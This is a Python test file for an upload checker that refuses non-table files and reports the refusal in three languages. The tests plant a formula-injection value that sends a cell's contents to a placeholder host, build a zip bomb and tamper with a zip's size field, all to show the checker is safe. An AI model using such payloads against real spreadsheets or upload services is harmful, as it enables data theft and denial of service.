"""What lies in a file is told from its content, and what we do not take is refused kindly, in three languages."""

from __future__ import annotations

import io
import zipfile

import pytest

from hub.connectors import source as reading
from hub.connectors.files import check_file
from hub.connectors.source import Source, kind_of
from hub.connectors.trouble import FileProblemsError
from tests.examples.files import CONNECTOR, concern_row, export, school_mapping
from tests.examples.workbooks import packed, workbook


def told(raw: bytes) -> tuple[str, str]:
    """Return what is said of a file that is no table of ours."""
    with pytest.raises(FileProblemsError) as caught:
        kind_of(Source.of_bytes(raw))
    (one,) = caught.value.problems
    return one.trouble, one.word


@pytest.mark.parametrize(
    ("raw", "word"),
    [
        pytest.param(b"%PDF-1.7 \n", "pdf", id="a PDF"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_or_locked", id="an old or locked workbook"),
        pytest.param(b"\x89PNG\r\n\x1a\n", "picture", id="a picture"),
        pytest.param(packed({"word/document.xml": b"<w/>"}), "document", id="a text document"),
        pytest.param(packed({"a.csv": b"a;b"}), "archive", id="a packed folder"),
        pytest.param(packed({"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x"}), "macros", id="macros"),
        pytest.param(workbook([["a"]])[:200], "damaged", id="half a workbook"),
    ],
)
def test_what_is_no_table_is_named(raw: bytes, word: str) -> None:
    """And said in Finnish, Swedish and English, with what to do instead."""
    assert told(raw) == ("not_a_table", word)
    report = check_file(raw, school_mapping(), CONNECTOR).report
    assert len({report.text(language) for language in ("fi", "sv", "en")}) == 3
    assert all("XLSX" in report.text(language) for language in ("fi", "sv", "en"))


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    """A part that would be 200 times as large; and many parts that are too much together."""
    bomb = packed({"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": bytes(64 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert told(bomb) == ("not_a_table", "bomb")


def test_a_part_that_is_longer_than_it_says_is_refused() -> None:
    """The directory lies about the size: the checksum tells."""
    raw = bytearray(packed({"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": b"x" * 5000}))
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        honest = archive.getinfo("xl/worksheets/sheet1.xml").file_size.to_bytes(4, "little")
    at = raw.rindex(honest)
    raw[at : at + 4] = (10).to_bytes(4, "little")
    assert told(bytes(raw)) == ("not_a_table", "damaged")


def test_a_file_over_the_limit_is_refused() -> None:
    """Nobody exports a gigabyte of concerns."""
    assert reading.MAX_BYTES == 1024**3


def test_a_workbook_reads_as_the_csv_of_it_would() -> None:
    """Dates, whole numbers, yes and no come as the words of an export; the events are the same ones."""
    rows = [concern_row(1), concern_row(2)]
    mapping = school_mapping()
    by_csv = check_file(export(*rows), mapping, CONNECTOR)
    table = [line.split(";") for line in export(*rows).decode("windows-1252").strip().splitlines()]
    by_book = check_file(workbook(table), mapping, CONNECTOR)
    assert by_book.report.rows == ()
    assert [one.data for one in by_book.events] == [one.data for one in by_csv.events]
    assert [one.envelope for one in by_book.events] == [one.envelope for one in by_csv.events]


def test_a_formula_is_text_and_never_worked_out() -> None:
    """Whatever begins with an equals sign stays what was written, or is the value that was saved with it."""
    evil = '=HYPERLINK("http://example.invalid/?x="&A1)'
    table = [line.split(";") for line in export(concern_row(1)).decode("windows-1252").strip().splitlines()]
    table[1][-1] = evil
    checked = check_file(workbook(table), school_mapping(), CONNECTOR)
    assert [one.data["text"] for one in checked.events] == [evil]


def test_a_sheet_that_is_not_there_is_told() -> None:
    """With its name, which is the mapping's own word."""
    mapping = school_mapping()
    named = mapping.model_copy(update={"file": mapping.file.model_copy(update={"sheet": "Huolet"})})
    report = check_file(workbook([["a"]]), named, CONNECTOR).report
    assert [(one.trouble, one.word) for one in report.file] == [("no_sheet", "Huolet")]
